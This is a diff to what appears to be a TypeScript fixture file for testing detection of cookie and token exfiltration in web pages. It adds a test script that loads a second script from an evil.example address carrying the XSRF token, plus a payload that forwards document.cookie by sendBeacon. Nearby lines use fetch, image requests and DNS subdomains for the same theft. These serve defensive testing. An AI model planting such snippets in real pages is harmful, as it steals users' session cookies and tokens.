@@ -128,6 +128,9 @@ export const srcdocWidgetPage = (flag: string, scripts = ''): string =>
 const srcdocSendingCookie = (path: string): string =>
   `'<body><script>fetch("https://evil.example/${path}?c=" + encodeURIComponent(document.cookie))<\\/script>'`;
 
+/** The script 'cookie-script-address' loads from an address holding the cookie: sends the cookie on. */
+export const COOKIE_ADDRESSED_SCRIPT = `navigator.sendBeacon('https://evil.example/in', document.cookie); window.__nextRan = true;`;
+
 export const MAIN_WORLD_SCRIPTS = {
   /**
    * Scripts inserted empty and given their code afterwards, each a way that ran unreported: an address written
@@ -701,6 +704,18 @@ export const MAIN_WORLD_SCRIPTS = {
   const token = (/(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie) || [])[1] || 'none';
   new Image().src = 'https://' + token + '.evil.example/p.gif';
   fetch('https://' + token.slice(0, 16) + '.' + token.slice(16) + '.evil.example/c', { mode: 'no-cors' }).catch(() => {});
+})();`,
+
+  /**
+   * Loads its next script from an address that carries the cookie (the request is the theft); that script, served
+   * under `https://evil.example/k/*` (COOKIE_ADDRESSED_SCRIPT), sends the cookie on. Its address is the name of
+   * every act it does, and the `src` of its insertion.
+   */
+  'cookie-script-address': `(() => {
+  const token = (/(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie) || [])[1] || 'none';
+  const next = document.createElement('script');
+  next.src = 'https://evil.example/k/' + token + '/next.js';
+  document.head.appendChild(next);
 })();`,
 
   'relayed-cookie': `(() => {
